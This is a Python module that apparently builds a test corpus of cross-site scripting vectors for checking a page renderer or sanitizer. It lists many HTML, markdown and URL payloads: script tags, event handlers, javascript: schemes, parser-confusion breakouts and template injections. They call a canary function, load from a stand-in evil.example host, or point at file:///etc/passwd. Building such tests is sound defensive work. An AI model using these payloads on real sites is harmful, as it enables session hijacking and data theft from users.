"""Texts that try to become something active on a page, made of parts; each carries a word of its own to be found by.

They call `canary`, which a page may watch, or ask `evil.example`, which nobody must ever do.
"""

import json
import os
import re
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from itertools import product
from pathlib import Path

CALL = "canary(7)"


@dataclass(frozen=True, slots=True)
class Vector:
    """A hostile text; `word` is a part of it that readers should see, empty where it has none."""

    text: str
    word: str = ""


_ELEMENTS = (
    "<script>{call}</script>",
    "<script src={url}></script>",
    "<img src=x onerror={call}>",
    "<img src={url}>",
    "<img class=emoji src={url} alt={word}>",
    "<span class=emoji><img src={url}>{word}</span>",
    "<svg onload={call}>",
    "<svg><animate onbegin={call} attributeName=x dur=1s>",
    "<svg><use href=data:image/svg+xml,{url}>",
    "<math><maction actiontype=statusline xlink:href=javascript:{call}>{word}</maction></math>",
    "<body onload={call}>",
    "<iframe src=javascript:{call}></iframe>",
    "<iframe srcdoc='<script>parent.{call}</script>'></iframe>",
    "<object data=javascript:{call}></object>",
    "<embed src={url}>",
    "<video src=x onerror={call}></video>",
    "<video><source onerror={call}></video>",
    "<audio src={url} autoplay onplay={call}></audio>",
    "<input autofocus onfocus={call}>",
    "<select autofocus onfocus={call}></select>",
    "<textarea autofocus onfocus={call}>{word}</textarea>",
    "<button formaction=javascript:{call} popovertarget=x>{word}</button>",
    "<form action={url}><input type=submit value={word}></form>",
    "<details open ontoggle={call}>{word}</details>",
    "<marquee onstart={call}>{word}</marquee>",
    "<p style=animation-name:x onanimationstart={call}>{word}</p>",
    "<p style='background:url({url})'>{word}</p>",
    "<style>@import '{url}'; * { background: url({url}) }</style>",
    "<link rel=stylesheet href={url}>",
    "<link rel=prefetch href={url}>",
    "<meta http-equiv=refresh content='0;url={url}'>",
    "<base href={url}>",
    "<a href=javascript:{call} onmouseover={call}>{word}</a>",
    "<a id=canary name=location>{word}</a>",
    "<form id=document><input name=cookie></form>",
    "<x-own tabindex=0 autofocus onfocus={call}>{word}</x-own>",
    "<xmp><p title='</xmp><img src=x onerror={call}>'></xmp>",
    "<dialog open onclose={call}>{word}</dialog>",
    "<template><script>{call}</script></template>",
    "<portal src={url}></portal>",
)


def _entities(text: str) -> str:
    return "".join(f"&#{ord(letter)}" if letter.isalpha() else letter for letter in text)


_DISGUISES: tuple[Callable[[str], str], ...] = (
    lambda text: text.replace(" ", "/"),
    lambda text: re.sub("</?[a-z]+", lambda tag: tag[0].swapcase(), text),
    lambda text: text.replace(" ", "\n"),
    lambda text: text.replace(CALL, f'"{_entities(CALL)}"'),
    lambda text: text.replace("<", "&lt;").replace(">", "&gt;"),
    lambda text: text.replace("<", "<\u202e").replace("=", "\x0c="),
    lambda text: text.replace("<", "＜").replace(">", "＞"),
    lambda text: text.replace("<", "\\<") + "<!--",
    lambda text: text.removesuffix(">"),
)

_SCHEMES = (
    "javascript:canary(7)",
    "JaVaScRiPt:canary(7)",
    "java\tscript:canary(7)",
    "java&Tab;script:canary(7)",
    "&#106;avascript&colon;canary(7)",
    "\x01javascript:canary(7)",
    "javascript://a.example/%0Acanary(7)",
    "vbscript:canary(7)",
    "data:text/html,<script>canary(7)</script>",
    "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9Y2FuYXJ5KDcpPg==",
    "blob:https://evil.example/1",
    "file:///etc/passwd",
    "//evil.example/x",
    "/\\evil.example/x",
    'https://a.example/"onmouseover=canary(7)//',
    "https://a.example/'onmouseover='canary(7)",
    "https://a.example/`><img src=x onerror=canary(7)>",
)

_LINKS = (
    "[{word}]({url})",
    "[{word}](<{url}>)",
    "![{word}]({url})",
    "[![{word}]({url})](https://a.example)",
    "<{url}> {word}",
    '[{word}](https://a.example "{url}")',
    "[{word}]: {url}",
    "to {url} {word}",
)

_OUTSIDE = ("svg", "math", "noscript", "template", "select", "table", "textarea", "title", "iframe", "noembed", "form")
_INSIDE = (
    "<style><!--</style>{out}{img}--></style>",
    "<p title='{out}{img}'>",
    "<!--{out}{img}-->",
    "<![CDATA[{out}{img}]]>",
    "<mtext><mglyph><style>{out}{img}</style>",
)

_BREAKING_OUT = (
    '"><img src=x onerror={call}>{word}',
    "'><img src=x onerror={call}>{word}",
    '" onmouseover="{call}" x="{word}',
    "' onmouseover='{call}' x='{word}",
    "` onmouseover=`{call}` {word}",
    "--><script>{call}</script><!-- {word}",
    "]]><script>{call}</script>{word}",
    "</script><script>{call}</script>{word}",
    '</script "}]}; {call}; {word}',
    "</title><script>{call}</script>{word}",
    "</style><script>{call}</script>{word}",
    "</textarea><script>{call}</script>{word}",
    "</article></section></main></body></html><script>{call}</script>{word}",
    "<!doctype html><html><body onload={call}>{word}",
    "+ADw-script+AD4-{call}+ADw-/script+AD4-{word}",
    "{{ {call} }} {word} {{ 7 * 7 }}",
    "{% include 'config.toml' %} {word}",
    "${{call}} #{{call}} <%= {call} %> {word}",
    "\\u003cscript\\u003e{call}\\u003c/script\\u003e {word}",
    "%3Cscript%3E{call}%3C/script%3E {word}",
)

_MARKDOWN = (
    "`<img src=x onerror={call}>` {word}",
    '```"><img src=x onerror={call}>\n{word}\n```',
    "```html\n<script>{call}</script> {word}\n```",
    "| <img src=x onerror={call}> | {word} |\n| - | - |\n| <script>{call}</script> | x |",
    "- <script>{call}</script>\n  - {word}",
    "# <script>{call}</script> {word}",
    "**<svg onload={call}>{word}**",
    "*<b\nonclick={call}>*{word}</b>",
    "[<img src=x onerror={call}>{word}](https://a.example)",
    "[{word}](https://a.example/<script>{call}</script>)",
    "[{word}](https://a.example 'x\" onmouseover=\"{call}')",
    '[{word}](https://a.example/\\" onclick={call})',
    "[a [{word}](javascript:{call}) b](https://a.example)",
    '<https://a.example/"onclick="{call}> {word}',
    "<{call}@a.example> {word}",
    ":<img src=x onerror={call}>: {word}",
    "~~<details open ontoggle={call}>{word}~~",
    "&lt;script&gt;{call}&lt;/script&gt; &amp;lt;b&amp;gt; {word}",
)


def _texts() -> Iterator[str]:
    elements = [_filled(element) for element in _ELEMENTS]
    yield from elements
    for number, disguise in enumerate(_DISGUISES):
        yield from (disguise(element) for element in elements[number % 3 :: 3])
    yield from (_filled(link, url=url) for link, url in product(_LINKS, _SCHEMES))
    image = _filled("<img src=x onerror={call}>")
    for outside, inside in product(_OUTSIDE, _INSIDE):
        yield f"<{outside}>{inside.format(out=f'</{outside}>', img=image)}{{word}}"
    yield from map(_filled, (*_BREAKING_OUT, *_MARKDOWN))


def _filled(text: str, url: str = "https://evil.example/x") -> str:
    return text.replace("{call}", CALL).replace("{url}", url)


def vectors() -> list[Vector]:
    """The corpus."""
    made = []
    for number, text in enumerate(dict.fromkeys(_texts())):
        word = f"seen{number}seen"
        made.append(Vector(text.replace("{word}", word), word if "{word}" in text else ""))
    return made


def collected() -> list[Vector]:
    """The cases of the file that DAYPOST_XSS_CASES names: a list of objects with a `payload` each; none without it."""
    path = os.environ.get("DAYPOST_XSS_CASES")
    cases = json.loads(Path(path).read_text(encoding="utf-8")) if path else []
    return [Vector(case["payload"]) for case in cases]
